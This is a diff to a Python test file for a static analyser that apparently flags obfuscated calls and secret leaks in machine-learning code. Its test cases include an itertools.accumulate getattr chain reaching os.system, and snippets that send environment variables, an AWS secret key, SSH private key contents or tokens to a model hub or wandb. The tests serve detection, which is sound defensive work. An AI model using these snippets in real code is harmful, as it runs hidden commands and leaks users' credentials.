@@ -856,6 +856,7 @@ _PATH = "for name in names:\n    found = getattr(found, name)\n"
          "        for name in names:\n            found = getattr(found, name)\n        found('x')\nA(torch)\n", True),
         ("import torch\nclass A:\n    def __init__(s, *p): s.p = p\n    def __exit__(s, *a):\n        found = torch\n"
          "        for name in s.p:\n            found = getattr(found, name)\n        found('x')\n", True),
+        ("import torch\nfound = torch\n[found := getattr(found, name) for name in names]\nfound('x')\n", True),
         ("def find(found, names):\n    for name in names:\n        found = getattr(found, name)\n    return found('x')\n",
          False),
         ("import torch\nfor name in names:\n    layer = getattr(torch.nn, name)(4)\n", False),
@@ -863,6 +864,14 @@ _PATH = "for name in names:\n    found = getattr(found, name)\n"
 )  # fmt: skip
 def test_object_that_a_loop_reaches_from_a_package_by_names_of_any_number_is_found(source: str, is_found: bool) -> None:
     assert (FOUND_OBJECT in {name for _, name in list_uses(source)}) == is_found
+
+
+def test_steps_of_accumulate_are_those_of_reduce() -> None:
+    source = (
+        "import itertools, torch\n"
+        "list(itertools.accumulate(['hub', 'os', 'system'], getattr, initial=torch))[-1]('x')\n"
+    )
+    assert "os.system" in {name for _, name in list_uses(source)}
 
 
 def test_names_that_a_call_gives_to_variable_arguments_are_followed() -> None:
@@ -891,6 +900,8 @@ def test_syntax_tree_that_the_source_may_change_is_code_that_it_does_not_show(so
         ("AutoConfig.from_pretrained('acme/log', revision=os.getenv('AWS_SECRET_ACCESS_KEY'))", True),
         ("hf_hub_download('acme/log', filename=open(os.path.expanduser('~/.ssh/id_rsa')).read())", True),
         ("ModelCard('# a' + get_token()).push_to_hub('acme/log')", True),
+        ("import wandb\nwandb.init(project='a').config.update(dict(os.environ))", True),
+        ("import wandb\nwandb.init(project='a').config.update({'key': len(os.environ)})", False),
         ("AutoConfig.from_pretrained('acme/a', revision='main', token=os.environ['HF_TOKEN'])", False),
         ("AutoConfig.from_pretrained(os.environ['MODEL_ID'])", False),
         ("ModelCard('# a').push_to_hub('acme/a', token=get_token())", False),
